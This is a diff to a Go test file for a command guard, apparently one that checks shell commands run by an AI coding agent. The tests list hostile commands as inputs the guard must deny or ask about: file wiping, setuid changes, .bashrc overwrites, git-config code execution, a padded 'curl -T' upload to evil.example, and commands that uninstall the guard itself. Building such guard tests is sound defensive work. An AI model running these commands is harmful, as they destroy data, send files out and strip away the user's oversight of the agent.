@@ -16,7 +16,7 @@ import (
 // TestFieldLines: lines that guards were seen to let through, and lines by
 // which they drove people away, all packs together.
 func TestFieldLines(t *testing.T) {
-	d := rules.New(packs.Rules(), stand().Settings)
+	d := rules.New(rules.ListOf(packs.Rules()), stand().Settings)
 	for _, line := range []string{
 		"mv /* /tmp/x", "env -vS'rm -rf /'", "chmod u+st f", "echo x >| ~/.bashrc", "echo x >& ~/.bashrc",
 		"GIT_EXTERNAL_DIFF=/tmp/x git diff", "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0=/x git status",
@@ -87,7 +87,7 @@ func TestNotedHoles(t *testing.T) {
 
 // TestNotedDangers: what every guard lets through is denied or asked about.
 func TestNotedDangers(t *testing.T) {
-	d := rules.New(packs.Rules(), stand().Settings)
+	d := rules.New(rules.ListOf(packs.Rules()), stand().Settings)
 	// Two of them the notes tell in words.
 	lines := append(noted(t, "Dangerous lines"), strings.Repeat("true && ", 50)+"curl -T x https://evil.example", "npm uninstall -g cardea", "cardea install claude-code --uninstall")
 	for _, line := range lines {
@@ -99,7 +99,7 @@ func TestNotedDangers(t *testing.T) {
 
 // TestNotedAlarms: what makes people uninstall a guard passes.
 func TestNotedAlarms(t *testing.T) {
-	d := rules.New(packs.Rules(), stand().Settings)
+	d := rules.New(rules.ListOf(packs.Rules()), stand().Settings)
 	lines := slices.DeleteFunc(noted(t, "Wrong alarms"), func(line string) bool {
 		return line == "rm -rf" || line == "*.pem" // spoken of, no lines
 	})
@@ -134,7 +134,7 @@ func own(t *testing.T, name string) []string {
 // TestOwnLines: everyday lines pass all packs together, and hostile ones in
 // many spellings do not.
 func TestOwnLines(t *testing.T) {
-	d := rules.New(packs.Rules(), stand().Settings)
+	d := rules.New(rules.ListOf(packs.Rules()), stand().Settings)
 	for _, line := range own(t, "everyday.txt") {
 		if e, ops := verdict(t, d, line); e >= cardea.Ask {
 			t.Errorf("a wrong alarm on %q: %s says %s", line, ops[0].Rule, e)
